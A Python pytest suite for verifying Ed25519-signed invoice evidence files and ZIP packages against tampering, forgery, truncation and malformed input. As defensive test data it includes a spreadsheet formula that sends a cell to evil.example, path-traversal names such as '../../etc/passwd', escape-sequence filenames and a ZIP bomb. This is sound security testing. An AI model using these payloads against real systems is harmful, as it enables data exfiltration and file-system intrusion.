"""gateway.energy.evidence (+ evidence_package): signed evidence built, checked offline on real files and
real ZIPs, and every way it can be tampered with, truncated or made hostile reported, never raised."""

from __future__ import annotations

import base64
import json
import os
import zipfile
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
import rfc8785
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PublicKey
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gateway.energy.evidence import (
    MAX_EVIDENCE_BYTES,
    EvidenceInput,
    build_evidence,
    input_from_bytes,
    input_from_record,
    verify_evidence,
)
from gateway.energy.evidence_package import verify_evidence_zip, verify_file
from shared.canonical import canonical_json, parse_json, sha256_hex
from shared.signing import SigningKey

KEY = SigningKey.generate()
OTHER = SigningKey.generate()
INVOICE = b"line,kwh,amount_usd\nenergy,1234.5,98.76\n"
SUMMARY = b'{"total_usd": "98.76"}\n'
NOTICE = "Draft invoice for information only. HashInsight moves, holds and pays out no money."
BROKEN_SIGNATURE = (
    "signature does not verify: the evidence was changed after signing, or the signature is another key's"
)
MAY_2024 = {"from": 1714521600, "to": 1717200000, "zone": "America/Chicago"}


def build(*, key: SigningKey = KEY, outputs: dict[str, bytes] | None = None, **overrides: Any) -> bytes:
    arguments: dict[str, Any] = {
        "subject": "invoice INV-2024-05-acme",
        "period": MAY_2024,
        "inputs": [
            input_from_bytes("meter.csv", b"ts,kwh\n1714521600,1.5\n", "utility meter export"),
            input_from_record("settlement", {"energy_j": 4_444_200_000, "rate": "0.08"}, "settlement draft"),
        ],
        "outputs": {"invoice.csv": INVOICE, "summary.json": SUMMARY} if outputs is None else outputs,
        "generated_at": 1717200900,
        "site_id": "site-tx-01",
        "key": key,
        "notice": NOTICE,
    }
    return build_evidence(**(arguments | overrides))


def resign(document: dict[str, Any], key: SigningKey) -> bytes:
    """What a forger with their own key does: fix public_key and key_id, then sign."""
    document = document | {"public_key": key.public_key_b64, "key_id": key.key_id}
    document.pop("signature", None)
    return canonical_json(document | {"signature": key.sign(canonical_json(document))})


@pytest.fixture
def export(tmp_path: Path) -> Path:
    (tmp_path / "invoice.csv").write_bytes(INVOICE)
    (tmp_path / "summary.json").write_bytes(SUMMARY)
    (tmp_path / "evidence.json").write_bytes(build())
    return tmp_path / "evidence.json"


def test_round_trip(export: Path) -> None:
    result = verify_evidence(export.read_bytes(), base_dir=export.parent)
    assert result.ok and result.problems == ()
    assert result.key_id == KEY.key_id
    assert result.checked_files == ("invoice.csv", "summary.json")
    assert verify_file(export, trusted_keys=[KEY.public_key_b64]) == result


def test_the_document_is_what_the_format_says(export: Path) -> None:
    data = export.read_bytes()
    assert canonical_json(parse_json(data)) == data  # stored canonical
    doc = json.loads(data)
    assert list(doc) == sorted(doc)
    assert doc == {
        "kind": "hashinsight.evidence",
        "v": 1,
        "subject": "invoice INV-2024-05-acme",
        "site_id": "site-tx-01",
        "period": MAY_2024,
        "generated_at": 1717200900,
        "inputs": [
            {
                "name": "meter.csv",
                "sha256": sha256_hex(b"ts,kwh\n1714521600,1.5\n"),
                "size_bytes": 22,
                "description": "utility meter export",
            },
            {
                "name": "settlement",
                "sha256": sha256_hex(b'{"energy_j":4444200000,"rate":"0.08"}'),
                "size_bytes": 37,
                "description": "settlement draft",
            },
        ],
        "outputs": {"invoice.csv": sha256_hex(INVOICE), "summary.json": sha256_hex(SUMMARY)},
        "notice": NOTICE,
        "public_key": KEY.public_key_b64,
        "key_id": KEY.key_id,
        "signature": doc["signature"],
    }


def test_a_client_can_check_it_with_nothing_but_a_jcs_library_and_ed25519(export: Path) -> None:
    """The offline recipe, written without our code: drop "signature", canonicalize, verify."""
    doc = json.loads(export.read_bytes())
    signature = base64.b64decode(doc.pop("signature"))
    public = Ed25519PublicKey.from_public_bytes(base64.b64decode(doc["public_key"]))
    public.verify(signature, rfc8785.dumps(doc))  # raises if wrong


def test_a_pretty_printed_copy_still_verifies(export: Path) -> None:
    pretty = json.dumps(json.loads(export.read_bytes()), indent=2, ensure_ascii=False).encode()
    assert verify_evidence(pretty, base_dir=export.parent).ok


def test_a_tampered_output_is_named(export: Path) -> None:
    (export.parent / "invoice.csv").write_bytes(INVOICE.replace(b"98.76", b"89.76"))
    result = verify_evidence(export.read_bytes(), base_dir=export.parent)
    assert not result.ok
    assert result.checked_files == ("summary.json",)
    assert len(result.problems) == 1
    assert result.problems[0].startswith("output 'invoice.csv': content differs from the signed hash")


def test_a_missing_or_unreadable_output_is_named(export: Path) -> None:
    (export.parent / "invoice.csv").unlink()
    (export.parent / "summary.json").unlink()
    (export.parent / "summary.json").mkdir()
    problems = verify_evidence(export.read_bytes(), base_dir=export.parent).problems
    assert problems == (
        "output 'invoice.csv': missing (it should sit beside the evidence)",
        "output 'summary.json': cannot be read (not a regular file)",
    )
    (export.parent / "summary.json").rmdir()
    os.mkfifo(export.parent / "summary.json")  # must not hang
    assert "not a regular file" in verify_file(export).problems[1]


def test_without_base_dir_only_the_document_is_checked(export: Path) -> None:
    result = verify_evidence(export.read_bytes())
    assert result.ok and result.checked_files == ()


@pytest.mark.parametrize(
    ("path", "value"),
    [
        (("subject",), "invoice INV-2024-05-acme (revised)"),
        (("site_id",), "site-tx-02"),
        (("period", "to"), 1717200001),
        (("generated_at",), 1717200901),
        (("notice",), "Pay now."),
        (("inputs", 0, "sha256"), sha256_hex(b"other meter")),
        (("inputs", 1, "size_bytes"), 38),
        (("outputs", "invoice.csv"), sha256_hex(b"forged")),
    ],
)
def test_any_changed_field_breaks_the_signature(export: Path, path: tuple[Any, ...], value: object) -> None:
    doc = json.loads(export.read_bytes())
    target = doc
    for step in path[:-1]:
        target = target[step]
    target[path[-1]] = value
    result = verify_evidence(canonical_json(doc))
    assert not result.ok
    assert result.problems == (BROKEN_SIGNATURE,)


def test_a_signature_from_another_key_fails(export: Path) -> None:
    doc = json.loads(export.read_bytes())
    unsigned = {k: v for k, v in doc.items() if k != "signature"}
    doc["signature"] = OTHER.sign(canonical_json(unsigned))
    assert "signature does not verify" in verify_evidence(canonical_json(doc)).problems[0]


def test_a_forger_signing_with_their_own_key_fails_only_against_trusted_keys(export: Path) -> None:
    doc = json.loads(export.read_bytes())
    forged = resign(doc | {"subject": "invoice INV-2024-05-acme (cheaper)"}, OTHER)
    alone = verify_evidence(forged)
    assert alone.ok and alone.key_id == OTHER.key_id  # self-consistent: that is all it shows
    trusted = verify_evidence(forged, trusted_keys=[KEY.public_key_b64])
    assert trusted.problems == (f"signed by {OTHER.key_id}, which is not one of the trusted keys",)
    assert verify_evidence(export.read_bytes(), trusted_keys=[OTHER.public_key_b64, KEY.public_key_b64]).ok
    bad_list = verify_evidence(export.read_bytes(), trusted_keys=["nope", KEY.public_key_b64])
    assert bad_list.problems == ("trusted key #1 is not a base64 Ed25519 public key",)


def test_a_wrong_key_id_is_reported(export: Path) -> None:
    doc = json.loads(export.read_bytes())
    doc["key_id"] = OTHER.key_id
    unsigned = {k: v for k, v in doc.items() if k != "signature"}
    doc["signature"] = KEY.sign(canonical_json(unsigned))  # signed *with* the wrong id: still refused
    result = verify_evidence(canonical_json(doc))
    assert result.problems == (
        f"key_id {OTHER.key_id!r} does not match the public key (which is {KEY.key_id})",
    )
    assert result.key_id == KEY.key_id


def test_a_malformed_or_weak_public_key(export: Path) -> None:
    doc = json.loads(export.read_bytes())
    for bad in ("AAAA", base64.b64encode(bytes(32)).decode(), 42):
        result = verify_evidence(canonical_json(doc | {"public_key": bad}), trusted_keys=[KEY.public_key_b64])
        assert not result.ok and result.key_id is None
        assert "the signer cannot be matched to a trusted key: its public key is malformed" in result.problems


def test_truncated_evidence_is_reported_with_its_position(export: Path) -> None:
    data = export.read_bytes()
    for cut in (0, 1, 10, len(data) // 2, len(data) - 1):
        result = verify_evidence(data[:cut])
        assert not result.ok and len(result.problems) == 1
        assert result.problems[0].startswith("evidence is not JSON: ")
        assert "line 1 column" in result.problems[0]


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (b"\x89PNG\r\n\x1a\n\x00\x00", "evidence is not UTF-8 text (byte 0)"),
        (b"garbage", "evidence is not JSON: Expecting value at line 1 column 1"),
        (b"[1, 2]", "evidence must be a JSON object, not list"),
        (b"[" * 200_000, "nested too deeply"),
        (b'{"kind": "a", "kind": "b"}', "duplicate key 'kind'"),
        (b'{"v": NaN}', "NaN is not a JSON number"),
        (b'{"v": ' + b"9" * 5000 + b"}", "v is inf"),
        (b'{"v": 1' + b"0" * 400 + b"}", "v is inf"),
        (b"\xef\xbb\xbf{}", "Unexpected UTF-8 BOM"),
        (b"{}", "missing field 'generated_at'"),
    ],
)
def test_garbage_is_reported_not_raised(data: bytes, says: str) -> None:
    result = verify_evidence(data)
    assert not result.ok and result.key_id is None
    assert any(says in problem for problem in result.problems), result.problems


def test_huge_evidence_is_refused_before_parsing() -> None:
    data = b'{"notice": "' + b"x" * MAX_EVIDENCE_BYTES + b'"}'
    assert verify_evidence(data).problems == (
        f"evidence is larger than the limit of {MAX_EVIDENCE_BYTES} bytes",
    )


def test_the_shape_is_checked_field_by_field(export: Path) -> None:
    doc = json.loads(export.read_bytes())
    doc |= {"kind": "invoice", "v": True, "subject": "", "generated_at": -1, "period": [], "extra": 1}
    doc["inputs"].append({"name": "x"})
    doc["outputs"]["../../etc/passwd"] = sha256_hex(b"")
    doc["outputs"]["invoice.csv"] = "md5:abc"
    problems = verify_evidence(canonical_json(doc)).problems
    assert problems[:-1] == (
        "unexpected field 'extra'",
        "kind is 'invoice', not 'hashinsight.evidence': this is not a HashInsight evidence file",
        "v is True; this version of HashInsight reads evidence v1",
        "subject must not be empty",
        "period must be an object",
        "generated_at must be a whole number of UTC epoch seconds",
        "inputs[3] must be an object with exactly description, name, sha256, size_bytes",
        "output '../../etc/passwd': not a plain file name (no folders, separators, control or reserved "
        "characters)",
        "output 'invoice.csv': hash must be 'sha256:' and 64 lowercase hex digits",
    )
    assert problems[-1].startswith("signature does not verify")


def test_hostile_text_is_shown_escaped_and_short(export: Path) -> None:
    doc = json.loads(export.read_bytes())
    doc["outputs"]["\x1b[2Jevil.csv"] = sha256_hex(b"")
    doc["key_id"] = "\u202e" + "k" * 500
    problems = verify_evidence(canonical_json(doc), base_dir=export.parent).problems
    assert all("\x1b" not in p and "\u202e" not in p and len(p) < 300 for p in problems)
    assert any("'\\x1b[2Jevil.csv'" in p for p in problems)


def test_a_hostile_document_cannot_flood_the_report(export: Path) -> None:
    doc = json.loads(export.read_bytes())
    doc["outputs"] = {f"bad/{i}": "x" for i in range(5000)}
    problems = verify_evidence(canonical_json(doc)).problems
    assert len(problems) <= 52 and problems[-1].endswith("more problems")


@settings(max_examples=100, deadline=None)
@given(data=st.binary(max_size=2000))
def test_arbitrary_bytes_never_raise(data: bytes) -> None:
    assert not verify_evidence(data).ok


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda kids: st.lists(kids, max_size=4) | st.dictionaries(st.text(max_size=12), kids, max_size=4),
    max_leaves=20,
)


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(changes=st.dictionaries(st.sampled_from([*json.loads(build()), "x"]), json_values, min_size=1))
def test_arbitrary_field_values_never_raise(export: Path, changes: dict[str, Any]) -> None:
    doc = json.loads(export.read_bytes()) | changes
    text = json.dumps(doc, allow_nan=True).encode()
    result = verify_evidence(text, base_dir=export.parent, trusted_keys=[KEY.public_key_b64])
    assert result.ok == (not result.problems)


@settings(max_examples=100, deadline=None)
@given(position=st.integers(min_value=0), byte=st.integers(min_value=0, max_value=255))
def test_no_single_byte_change_leaves_it_valid(position: int, byte: int) -> None:
    data = bytearray(build())
    position %= len(data)
    if data[position] == byte:
        return
    data[position] = byte
    assert not verify_evidence(bytes(data), trusted_keys=[KEY.public_key_b64]).ok


# --- building -------------------------------------------------------------------------------------------


def test_inputs_from_bytes_and_records() -> None:
    assert input_from_bytes("m.csv", b"abc", "meter") == EvidenceInput(
        name="m.csv",
        sha256="sha256:ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad",
        size_bytes=3,
        description="meter",
    )
    record = input_from_record("r", {"b": [1, "x"], "a": None}, "record")
    assert record.sha256 == sha256_hex(b'{"a":null,"b":[1,"x"]}') and record.size_bytes == 22
    with pytest.raises(ValueError, match="send it as a string"):
        input_from_record("r", {"energy_j": 2**60}, "too big for JSON")


@pytest.mark.parametrize(
    ("overrides", "says"),
    [
        ({"outputs": {"../invoice.csv": b""}}, "not a plain file name"),
        ({"outputs": {"a/b.csv": b""}}, "not a plain file name"),
        ({"outputs": {"C:invoice.csv": b""}}, "not a plain file name"),
        ({"outputs": {"x\x1b.csv": b""}}, "not a plain file name"),
        ({"outputs": {"": b""}}, "not a plain file name"),
        ({"outputs": {"evidence.json": b"{}"}}, "is the evidence itself"),
        ({"outputs": {"invoice.csv": "text, not bytes"}}, "must be bytes"),
        ({"subject": " "}, "subject must not be empty"),
        ({"notice": "a\x00b"}, "notice contains control characters"),
        ({"generated_at": True}, "generated_at must be a whole number"),
        ({"generated_at": -5}, "generated_at must be a whole number"),
        ({"period": {"energy_j": 2**60}}, "send it as a string"),
        ({"period": {"amount": Decimal("1.00")}}, "Decimals as strings"),
        ({"inputs": [input_from_bytes("a", b"", "x"), input_from_bytes("a", b"1", "y")]}, "unique"),
    ],
)
def test_build_refuses_what_would_not_verify(overrides: dict[str, Any], says: str) -> None:
    with pytest.raises(ValueError, match=says) as caught:
        build(**overrides)
    assert str(caught.value).startswith("evidence: ") and "\n" not in str(caught.value)


@pytest.mark.parametrize(
    ("fields", "says"),
    [
        ({"sha256": "sha256:ABC"}, "sha256 must be"),
        ({"sha256": "sha256:" + "A" * 64}, "sha256 must be"),
        ({"size_bytes": -1}, "size_bytes must be"),
        ({"size_bytes": 1.5}, "size_bytes must be"),
        ({"name": ""}, "name must not be empty"),
        ({"description": "x" * 5000}, "longer than 4096"),
    ],
)
def test_an_evidence_input_checks_itself(fields: dict[str, Any], says: str) -> None:
    good: dict[str, Any] = {"name": "n", "sha256": sha256_hex(b""), "size_bytes": 0, "description": "d"}
    with pytest.raises(ValueError, match=says):
        EvidenceInput(**(good | fields))


def test_formula_looking_text_is_data_and_survives_exactly(tmp_path: Path) -> None:
    """Evidence is JSON, never a spreadsheet: `=HYPERLINK(...)` is carried and signed as written."""
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    data = build(subject=hostile, outputs={})
    assert json.loads(data)["subject"] == hostile
    assert verify_evidence(data).ok


# --- ZIP packages ---------------------------------------------------------------------------------------


def make_zip(path: Path, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return path


def package(**extra: bytes) -> dict[str, bytes]:
    return {"evidence.json": build(), "invoice.csv": INVOICE, "summary.json": SUMMARY, **extra}


def test_a_zip_package_verifies_at_its_root_or_in_one_folder(tmp_path: Path) -> None:
    flat = verify_file(make_zip(tmp_path / "a.zip", package()), trusted_keys=[KEY.public_key_b64])
    assert flat.ok and flat.checked_files == ("invoice.csv", "summary.json")
    nested = make_zip(tmp_path / "b.zip", {f"dispute-2024-05/{n}": d for n, d in package().items()})
    assert verify_file(nested).ok


def test_a_zip_with_a_traversal_member_is_invalid(tmp_path: Path) -> None:
    for bad in ("../evil.sh", "/etc/cron.d/x", "a/../../x", "C:/x", "a\\..\\x"):
        result = verify_file(make_zip(tmp_path / "t.zip", package(**{bad: b"x"})))
        assert not result.ok
        assert result.problems == (f"ZIP member {bad!r} has an unsafe path (absolute or '..'); refused",)
        assert result.checked_files == ("invoice.csv", "summary.json")  # the rest is still reported


def test_a_tampered_or_missing_member_is_named(tmp_path: Path) -> None:
    members = package() | {"invoice.csv": INVOICE + b"extra,0,0\n"}
    del members["summary.json"]
    result = verify_evidence_zip(make_zip(tmp_path / "t.zip", members))
    assert result.problems[0].startswith("output 'invoice.csv': content differs from the signed hash")
    assert result.problems[1] == "output 'summary.json': missing (it should sit beside the evidence)"


def test_zip_layout_problems(tmp_path: Path) -> None:
    no_evidence = make_zip(tmp_path / "a.zip", {"invoice.csv": INVOICE})
    assert verify_file(no_evidence).problems == ("the ZIP must hold exactly one evidence.json (found none)",)
    two = make_zip(tmp_path / "b.zip", package() | {"x/evidence.json": build()})
    assert (
        "exactly one evidence.json (found 'evidence.json', 'x/evidence.json')" in verify_file(two).problems[0]
    )
    with (
        pytest.warns(UserWarning, match="Duplicate name"),
        zipfile.ZipFile(tmp_path / "c.zip", "w") as archive,
    ):
        for name, data in package().items():
            archive.writestr(name, data)
        archive.writestr("invoice.csv", b"second copy")
    assert "ZIP member 'invoice.csv' appears twice" in verify_file(tmp_path / "c.zip").problems[0]


def test_a_zip_bomb_stops_at_the_cap(tmp_path: Path) -> None:
    bomb = package(**{"padding.bin": bytes(8 * 1024 * 1024)})  # 8 MiB of zeros -> ~8 KiB deflated
    path = make_zip(tmp_path / "bomb.zip", bomb)
    assert path.stat().st_size < 100_000
    result = verify_evidence_zip(path, max_member_bytes=1024 * 1024)
    assert result.problems == ("ZIP member 'padding.bin' is 8388608 bytes; the limit is 1048576",)


def test_a_truncated_or_fake_zip(tmp_path: Path) -> None:
    data = make_zip(tmp_path / "ok.zip", package()).read_bytes()
    (tmp_path / "cut.zip").write_bytes(data[: len(data) // 2])
    result = verify_file(tmp_path / "cut.zip")
    assert not result.ok and result.problems[0].startswith("not a readable ZIP")
    (tmp_path / "fake.zip").write_bytes(b"PK\x03\x04" + b"\x00" * 100)
    assert verify_file(tmp_path / "fake.zip").problems[0].startswith("not a readable ZIP")


# --- inputs shipped beside the evidence (finding B) -----------------------------------------------------

ENERGY = b"miner_id,interval_start,joules\nm0,1714521600,2700000\n"


def export_with_inputs(folder: Path) -> Path:
    """An export whose evidence lists `inputs/energy_15m.csv` (shipped) and `meter.csv` (not shipped)."""
    (folder / "inputs").mkdir(parents=True)
    (folder / "inputs" / "energy_15m.csv").write_bytes(ENERGY)
    (folder / "invoice.csv").write_bytes(INVOICE)
    inputs = [
        input_from_bytes("inputs/energy_15m.csv", ENERGY, "metered energy"),
        input_from_bytes("meter.csv", b"ts,kwh\n", "utility meter export"),
    ]
    (folder / "evidence.json").write_bytes(build(inputs=inputs, outputs={"invoice.csv": INVOICE}))
    return folder / "evidence.json"


def test_inputs_present_are_checked_and_absent_ones_said_unchecked(tmp_path: Path) -> None:
    export = export_with_inputs(tmp_path)
    result = verify_file(export)
    assert result.ok, result.problems
    assert result.checked_files == ("invoice.csv",)
    assert result.checked_inputs == ("inputs/energy_15m.csv",)
    assert result.absent_inputs == ("meter.csv",)
    (tmp_path / "inputs" / "energy_15m.csv").write_bytes(ENERGY.replace(b"2700000", b"2700001"))
    result = verify_file(export)
    assert not result.ok and result.checked_inputs == ()
    assert result.problems == (
        "input 'inputs/energy_15m.csv': content differs from the signed hash (file "
        f"{sha256_hex(ENERGY.replace(b'2700000', b'2700001'))}, evidence '{sha256_hex(ENERGY)}')",
    )


def test_an_input_lookup_never_leaves_the_evidence_folder(tmp_path: Path) -> None:
    export = export_with_inputs(tmp_path / "export")
    outside = tmp_path / "secret.csv"
    outside.write_bytes(ENERGY)  # even a matching file outside is not read through a link
    energy = export.parent / "inputs" / "energy_15m.csv"
    energy.unlink()
    energy.symlink_to(outside)
    refused = "input 'inputs/energy_15m.csv': cannot be read (it is a link to somewhere outside"
    assert verify_file(export).problems[0].startswith(refused)
    energy.unlink()
    energy.symlink_to(export.parent / "gone.csv")  # dangling: nothing there, so not checked
    result = verify_file(export)
    assert result.ok and result.absent_inputs == ("inputs/energy_15m.csv", "meter.csv")
    inputs_dir = export.parent / "inputs"
    for child in inputs_dir.iterdir():
        child.unlink()
    inputs_dir.rmdir()
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "energy_15m.csv").write_bytes(ENERGY)
    inputs_dir.symlink_to(tmp_path / "elsewhere")  # the folder itself links out
    assert verify_file(export).problems[0].startswith(refused)
    inputs_dir.unlink()
    inputs_dir.mkdir()
    os.mkfifo(inputs_dir / "energy_15m.csv")  # must not hang
    assert verify_file(export).problems == (
        "input 'inputs/energy_15m.csv': cannot be read (not a regular file)",
    )


@pytest.mark.parametrize(
    "name",
    ["../x.csv", "/etc/passwd", "a/b/c.csv", "a\\b.csv", ".hidden", "inputs/..", "inputs/", "/x", "x\x00",
     "C:x", "x.csv ", "evidence.json", "a//b", "~/x", "x" * 300],
)  # fmt: skip
def test_unsafe_input_names_are_refused_when_building_and_when_verifying(tmp_path: Path, name: str) -> None:
    with pytest.raises(ValueError, match="input"):
        input_from_bytes(name, b"x", "hostile")
    # a forger signs such a name anyway: the document is invalid and the name is never looked up
    (tmp_path / "invoice.csv").write_bytes(INVOICE)
    doc = json.loads(build(outputs={"invoice.csv": INVOICE}))
    doc["inputs"].append({"name": name, "sha256": sha256_hex(b"x"), "size_bytes": 1, "description": "h"})
    result = verify_evidence(resign(doc, OTHER), base_dir=tmp_path)
    assert not result.ok and "inputs[3]" in result.problems[0]
    assert name not in result.checked_inputs + result.absent_inputs


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    folder=st.from_regex(r"[A-Za-z0-9_][A-Za-z0-9_.-]{0,10}[A-Za-z0-9_]", fullmatch=True),
    file=st.from_regex(r"[A-Za-z0-9_][A-Za-z0-9_. -]{0,20}[A-Za-z0-9_]", fullmatch=True),
    data=st.binary(max_size=200),
)
def test_any_safe_input_name_round_trips_in_a_folder_and_in_a_zip(
    tmp_path: Path, folder: str, file: str, data: bytes
) -> None:
    name = f"{folder}/{file}"
    evidence = build(inputs=[input_from_bytes(name, data, "x")], outputs={"invoice.csv": INVOICE})
    base = tmp_path / sha256_hex(name.encode() + data)[7:23]
    (base / folder).mkdir(parents=True, exist_ok=True)
    (base / name).write_bytes(data)
    (base / "invoice.csv").write_bytes(INVOICE)
    (base / "evidence.json").write_bytes(evidence)
    assert verify_file(base / "evidence.json").checked_inputs == (name,)
    members = {"evidence.json": evidence, "invoice.csv": INVOICE, name: data}
    zipped = verify_file(make_zip(base / "p.zip", members))
    assert zipped.ok and zipped.checked_inputs == (name,)
    changed = verify_file(make_zip(base / "q.zip", members | {name: data + b"!"}))
    assert not changed.ok and changed.problems[0].startswith(f"input {name!r}: content differs")


def test_an_oversized_input_member_stops_at_the_cap(tmp_path: Path) -> None:
    big = b"0" * 5000
    evidence = build(inputs=[input_from_bytes("inputs/big.csv", big, "x")], outputs={})
    path = make_zip(tmp_path / "big.zip", {"evidence.json": evidence, "inputs/big.csv": big})
    result = verify_evidence_zip(path, max_member_bytes=1000)
    assert not result.ok
    assert "ZIP member 'inputs/big.csv' is 5000 bytes; the limit is 1000" in result.problems
